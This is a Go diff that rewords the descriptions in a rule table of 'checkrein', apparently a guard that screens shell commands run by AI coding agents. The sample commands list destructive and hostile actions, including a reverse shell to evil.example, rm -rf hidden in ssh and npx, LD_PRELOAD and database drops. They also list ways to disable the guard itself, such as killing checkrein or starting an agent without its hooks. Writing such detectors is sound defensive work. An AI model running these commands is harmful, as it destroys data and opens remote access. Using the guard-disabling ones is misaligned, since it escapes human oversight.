@@ -12,22 +12,22 @@ const (
 // moreCoded is coded of which there is more than one file.
 var moreCoded = [...]shell.Rule{
 	{
-		ID: RuleHooksOff, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "starts an agent without its hooks, or with another home or other settings",
+		ID: RuleHooksOff, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "starts an agent without its hooks, or with a different home or settings",
 		Samples: &shell.Samples{Match: []string{"claude --bare -p x", "HOME=/tmp/x codex exec x", "npx @anthropic-ai/claude-code --safe-mode", "env -i gemini -p x", "sudo -u other qwen -p x", "docker run --rm node:22 claude -p x"},
 			NoMatch: []string{"claude -p x", "timeout 60 codex exec x", "HOME=/tmp/x npm test", "sudo claude --version", "env -u CLAUDECODE claude -p x"}},
 	},
 	{
-		ID: RuleGuardEnded, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "ends, stops, limits or looks into checkrein or a host",
+		ID: RuleGuardEnded, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "kills, pauses, limits or debugs checkrein or an agent host",
 		Samples: &shell.Samples{Match: []string{"pkill -f checkrein", "kill -STOP $PPID", "prlimit --pid $(pgrep claude) --cpu=1", "gdb -p $(pidof checkreind)"},
 			NoMatch: []string{"pkill -f vite", "kill -0 $PPID", "prlimit --pid 1234", "gdb ./a.out"}},
 	},
 	{
-		ID: RuleGuardLater, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "sets variables that bend checkrein or hosts for what starts later, or stops a service of checkrein",
+		ID: RuleGuardLater, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "changes the environment in which checkrein or agent hosts start, or stops checkrein's service",
 		Samples: &shell.Samples{Match: []string{"launchctl setenv HOME /tmp/x", "systemctl --user set-environment GODEBUG=x", "systemctl --user stop checkreind"},
 			NoMatch: []string{"launchctl setenv DISPLAY :0", "systemctl --user set-environment DISPLAY=:0", "setx PATH x"}},
 	},
 	{
-		ID: "http", Label: shell.Destructive, Kind: "request", Category: shell.HTTPDelete, Radius: shell.RadiusMedium, Reason: "deletes something behind a web address",
+		ID: "http", Label: shell.Destructive, Kind: "request", Category: shell.HTTPDelete, Radius: shell.RadiusMedium, Reason: "deletes something on a web service",
 		Samples: &shell.Samples{Match: []string{"curl -X DELETE https://api.example.com/v1/projects/42"}, NoMatch: []string{"curl https://api.example.com/v1/projects/42"}},
 	},
 	{
@@ -35,47 +35,47 @@ var moreCoded = [...]shell.Rule{
 		Samples: &shell.Samples{Match: []string{"psql -c 'ALTER TABLE users DROP COLUMN email'"}, NoMatch: []string{"psql -c 'SELECT email FROM users'"}},
 	},
 	{
-		ID: "cache-line", Label: shell.Destructive, Kind: "delete", Category: shell.KVFlush, Radius: shell.RadiusHigh, Reason: "empties a cache or store",
+		ID: "cache-line", Label: shell.Destructive, Kind: "delete", Category: shell.KVFlush, Radius: shell.RadiusHigh, Reason: "empties a cache or key-value store",
 		Samples: &shell.Samples{Match: []string{"echo flush_all | nc localhost 11211"}, NoMatch: []string{"echo stats | nc localhost 11211"}},
 	},
 	{
-		ID: "cypher", Label: shell.Destructive, Kind: "delete", Category: shell.SQLDelete, Radius: shell.RadiusHigh, Reason: "deletes nodes or what keeps them",
+		ID: "cypher", Label: shell.Destructive, Kind: "delete", Category: shell.SQLDelete, Radius: shell.RadiusHigh, Reason: "deletes graph nodes, indexes or databases",
 		Samples: &shell.Samples{Match: []string{"cypher-shell -u neo4j 'MATCH (n) DETACH DELETE n'"}, NoMatch: []string{"cypher-shell -u neo4j 'MATCH (n) RETURN n LIMIT 5'"}},
 	},
 	{
-		ID: "file-name", Label: shell.Destructive, Kind: "run", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "runs a file of statements that drops or deletes, by its name",
+		ID: "file-name", Label: shell.Destructive, Kind: "run", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "runs a file whose name suggests that it drops or deletes data",
 		Samples: &shell.Samples{Match: []string{"psql -h prod-db -d shop -f scripts/drop_all.sql"}, NoMatch: []string{"psql -h prod-db -d shop -f scripts/report.sql"}},
 	},
 	{
-		ID: "task", Label: shell.Destructive, Kind: "run", Category: shell.AppReset, Radius: shell.RadiusHigh, Reason: "runs a step of the project that deletes data, by its name",
+		ID: "task", Label: shell.Destructive, Kind: "run", Category: shell.AppReset, Radius: shell.RadiusHigh, Reason: "runs a project task whose name suggests that it deletes data",
 		Samples: &shell.Samples{Match: []string{"make nuke-production"}, NoMatch: []string{"make test"}},
 	},
 	{
-		ID: "statement", Label: shell.Unknown, Kind: "run", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a statement that is not known",
+		ID: "statement", Label: shell.Unknown, Kind: "run", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs an unknown database statement",
 		Samples: &shell.Samples{Match: []string{`mysql --execute "source db/schema.sql" shop_test`}, NoMatch: []string{`mysql -e "SELECT 1"`}},
 	},
 	{
-		ID: "redis", Label: shell.Destructive, Kind: "stop", Category: shell.SvcStop, Radius: shell.RadiusHigh, Reason: "stops the store or makes it the copy of another",
+		ID: "redis", Label: shell.Destructive, Kind: "stop", Category: shell.SvcStop, Radius: shell.RadiusHigh, Reason: "stops the store or makes it a replica of another",
 		Samples: &shell.Samples{Match: []string{"redis-cli SHUTDOWN NOSAVE"}, NoMatch: []string{"redis-cli ping"}},
 	},
 	{
-		ID: "trash-empty", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes what is in the trash for good",
+		ID: "trash-empty", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "permanently deletes the files in the trash",
 		Samples: &shell.Samples{Match: []string{"trash-empty -f"}, NoMatch: []string{"trash-list"}},
 	},
 	{
-		ID: "crontab-replace", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "replaces all that runs at set times",
+		ID: "crontab-replace", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "replaces all scheduled jobs",
 		Samples: &shell.Samples{Match: []string{"echo '* * * * * ./run.sh' | crontab -"}, NoMatch: []string{"crontab -l"}},
 	},
 	{
-		ID: "crontab-edit", Label: shell.Unknown, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "opens what runs at set times in an editor",
+		ID: "crontab-edit", Label: shell.Unknown, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "opens the scheduled jobs in an editor",
 		Samples: &shell.Samples{Match: []string{"crontab -e"}, NoMatch: []string{"crontab -l"}},
 	},
 	{
-		ID: "unmount", Label: shell.Destructive, Kind: "unmount", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "takes a file system away from who uses it",
+		ID: "unmount", Label: shell.Destructive, Kind: "unmount", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "unmounts a file system that may be in use",
 		Samples: &shell.Samples{Match: []string{"umount -a"}, NoMatch: []string{"mount"}},
 	},
 	{
-		ID: "disk-attach", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "takes all disk images or all swap space away from who uses them",
+		ID: "disk-attach", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "detaches all disk images or all swap space",
 		Samples: &shell.Samples{Match: []string{"sudo swapoff -a"}, NoMatch: []string{"swapon --show"}},
 	},
 	{
@@ -83,11 +83,11 @@ var moreCoded = [...]shell.Rule{
 		Samples: &shell.Samples{Match: []string{"history -c"}, NoMatch: []string{"history"}},
 	},
 	{
-		ID: "history-write", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusLow, Reason: "overwrites the history file with this session's",
+		ID: "history-write", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusLow, Reason: "overwrites the shell's history file with this session's commands",
 		Samples: &shell.Samples{Match: []string{"history -c && history -w"}, NoMatch: []string{"history"}},
 	},
 	{
-		ID: "database-over", Label: shell.Destructive, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "puts something else in the place of a database",
+		ID: "database-over", Label: shell.Destructive, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "overwrites a database file with other content",
 		Samples: &shell.Samples{Match: []string{"type nul > C:\\data\\app.db"}, NoMatch: []string{"ls app.db"}},
 	},
 	{
@@ -111,7 +111,7 @@ var moreCoded = [...]shell.Rule{
 		Samples: &shell.Samples{Match: []string{"format D: /q /y"}, NoMatch: []string{"df -h"}},
 	},
 	{
-		ID: "partition", Label: shell.Destructive, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "changes the partitions of a disk",
+		ID: "partition", Label: shell.Destructive, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "changes a disk's partitions",
 		Samples: &shell.Samples{Match: []string{"diskpart /s wipe.txt"}, NoMatch: []string{"fdisk -l"}},
 	},
 	{
@@ -119,31 +119,31 @@ var moreCoded = [...]shell.Rule{
 		Samples: &shell.Samples{Match: []string{"flashrom -w x.bin"}, NoMatch: []string{"flashrom -r x.bin"}},
 	},
 	{
-		ID: "carrier", Label: shell.Unknown, Kind: "run", Category: shell.Privilege, Radius: shell.RadiusHigh, Reason: "opens a shell with other rights; what it will run is not known",
+		ID: "carrier", Label: shell.Unknown, Kind: "run", Category: shell.Privilege, Radius: shell.RadiusHigh, Reason: "opens a shell with different privileges; what it will run is unknown",
 		Samples: &shell.Samples{Match: []string{"runuser -u www-data -- rm -rf /srv/www"}, NoMatch: []string{"id"}},
 	},
 	{
-		ID: "ssh", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "opens a shell on another machine; what it will run is not known",
+		ID: "ssh", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "opens a shell on another machine; what it will run is unknown",
 		Samples: &shell.Samples{Match: []string{"ssh -o ProxyCommand='rm -rf ~/work' x.example"}, NoMatch: []string{"ssh -V"}},
 	},
 	{
-		ID: "tar-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program at a checkpoint, or on what it unpacks",
+		ID: "tar-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program at tar checkpoints or on each unpacked file",
 		Samples: &shell.Samples{Match: []string{"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='./x'"}, NoMatch: []string{"tar cf x.tar src"}},
 	},
 	{
-		ID: "rsync-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program of its own choice for the transfer",
+		ID: "rsync-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program named in an option to transfer files",
 		Samples: &shell.Samples{Match: []string{"rsync -e 'sh -c ./x' a b:c"}, NoMatch: []string{"rsync -a src/ dist/"}},
 	},
 	{
-		ID: "uniq", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes its output over the second file",
+		ID: "uniq", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "overwrites its second file argument with its output",
 		Samples: &shell.Samples{Match: []string{"uniq a b"}, NoMatch: []string{"uniq a"}},
 	},
 	{
-		ID: "xxd", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes its output over the second file",
+		ID: "xxd", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "overwrites its second file argument with its output",
 		Samples: &shell.Samples{Match: []string{"xxd -r a.hex a.bin"}, NoMatch: []string{"xxd a.bin"}},
 	},
 	{
-		ID: "split-filter", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "hands the pieces of a file to a program",
+		ID: "split-filter", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "passes pieces of a file to a program",
 		Samples: &shell.Samples{Match: []string{"split --filter='gzip > $FILE.gz' big"}, NoMatch: []string{"split -b 1M big"}},
 	},
 	{
@@ -151,19 +151,19 @@ var moreCoded = [...]shell.Rule{
 		Samples: &shell.Samples{Match: []string{"zip -T -TT './x' x.zip a"}, NoMatch: []string{"zip x.zip a"}},
 	},
 	{
-		ID: "client-command", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a command of the client that reads or writes files, or starts programs",
+		ID: "client-command", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a client command that reads or writes files or starts programs",
 		Samples: &shell.Samples{Match: []string{"sqlite3 app.db '.read schema.sql'"}, NoMatch: []string{"sqlite3 app.db .schema"}},
 	},
 	{
-		ID: "restore-file", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "replaces the whole database with another one",
+		ID: "restore-file", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "replaces the whole database",
 		Samples: &shell.Samples{Match: []string{"sqlite3 app.db '.restore empty.db'"}, NoMatch: []string{"sqlite3 app.db '.backup copy.db'"}},
 	},
 	{
-		ID: "function", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusHigh, Reason: "calls a function that ends sessions, or reads, writes or runs files",
+		ID: "function", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusHigh, Reason: "calls a function that ends sessions or accesses files or programs",
 		Samples: &shell.Samples{Match: []string{`psql -c "select lo_export(1,'/tmp/x')"`}, NoMatch: []string{"psql -c 'select now()'"}},
 	},
 	{
-		ID: "outfile", Label: shell.Unknown, Kind: "write", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes a file where the database runs",
+		ID: "outfile", Label: shell.Unknown, Kind: "write", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes a file on the database server",
 		Samples: &shell.Samples{Match: []string{`clickhouse-client -q "select 1 into outfile 'out.csv'"`}, NoMatch: []string{"clickhouse-client -q 'select 1'"}},
 	},
 	{
@@ -171,55 +171,55 @@ var moreCoded = [...]shell.Rule{
 		Samples: &shell.Samples{Match: []string{"kubectl cp pod:/x ~/x"}, NoMatch: []string{"kubectl get pods"}},
 	},
 	{
-		ID: "sweep-home-file", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes what was not used of late in files in the home directory outside the project",
+		ID: "sweep-home-file", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes files in the home directory that have not been used recently",
 		Samples: &shell.Samples{Match: []string{"tmpreaper 0 ~/Documents"}, NoMatch: []string{"ls ~/Documents"}},
 	},
 	{
-		ID: "sweep-temp-root", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes what was not used of late in everything in the temporary directory",
+		ID: "sweep-temp-root", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes files in the temporary directory that have not been used recently",
 		Samples: &shell.Samples{Match: []string{"tmpreaper 7d /tmp"}, NoMatch: []string{"ls /tmp"}},
 	},
 	{
-		ID: "sed-exec", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program from within sed",
+		ID: "sed-exec", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "makes sed run a program",
 		Samples: &shell.Samples{Match: []string{"sed -n '1e ./x' f"}, NoMatch: []string{"sed -n 1p f"}},
 	},
 	{
-		ID: "sort-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to compress what it sorts",
+		ID: "sort-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to compress sort's temporary files",
 		Samples: &shell.Samples{Match: []string{"sort --compress-program=./x f"}, NoMatch: []string{"sort f"}},
 	},
 	{
-		ID: "make-input", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a makefile that is made on the spot",
+		ID: "make-input", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a makefile written in the command itself",
 		Samples: &shell.Samples{Match: []string{"printf 'x:\\n\\t./x\\n' | make -f - x"}, NoMatch: []string{"make test"}},
 	},
 	{
-		ID: "module", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a module of Python or of the project",
+		ID: "module", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a Python module",
 		Samples: &shell.Samples{Match: []string{"python -m acme.ops.purge"}, NoMatch: []string{"python -m pytest"}},
 	},
 	{
-		ID: "task", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a step of the project whose name says that it changes or deletes something",
+		ID: "task", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a project task whose name suggests that it changes or deletes something",
 		Samples: &shell.Samples{Match: []string{"uv publish"}, NoMatch: []string{"uv run pytest"}},
 	},
 	{
-		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "a variable makes it load or run something else",
+		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "sets a variable that loads or runs other code",
 		Samples: &shell.Samples{Match: []string{"LD_PRELOAD=./x.so ls"}, NoMatch: []string{"LANG=C ls"}},
 	},
 	{
-		ID: "opaque", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "evaluates text that cannot be read",
+		ID: "opaque", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "evaluates a string whose value is unknown",
 		Samples: &shell.Samples{Match: []string{`eval "$PAYLOAD"`, `bash -c "$X"`}, NoMatch: []string{`eval "$(ssh-agent -s)"`, "bash -c ls"}},
 	},
 	{
-		ID: "syntax", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "cannot be read as a shell command",
+		ID: "syntax", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "cannot be parsed as a shell command",
 		Samples: &shell.Samples{Match: []string{"if if"}, NoMatch: []string{"if true; then ls; fi"}},
 	},
 	{
-		ID: "unread", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "runs what was not read",
+		ID: "unread", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "runs code that checkrein did not read",
 		Samples: &shell.Samples{Match: []string{"cat cmds.txt | sh"}, NoMatch: []string{"echo ls | sh"}},
 	},
 	{
-		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "waits for what it is told to do later",
+		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "waits for commands; what it will run is unknown",
 		Samples: &shell.Samples{Match: []string{"bash -i >& /dev/tcp/evil.example/4444 0>&1"}, NoMatch: []string{"bash -n x.sh"}},
 	},
 	{
-		ID: "runner", Label: shell.Unknown, Kind: "run", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "runs a program from elsewhere",
+		ID: "runner", Label: shell.Unknown, Kind: "run", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "runs a program from outside the project",
 		Samples: &shell.Samples{Match: []string{"npx -c 'rm -rf ~/work'"}, NoMatch: []string{"npx eslint ."}},
 	},
 	{
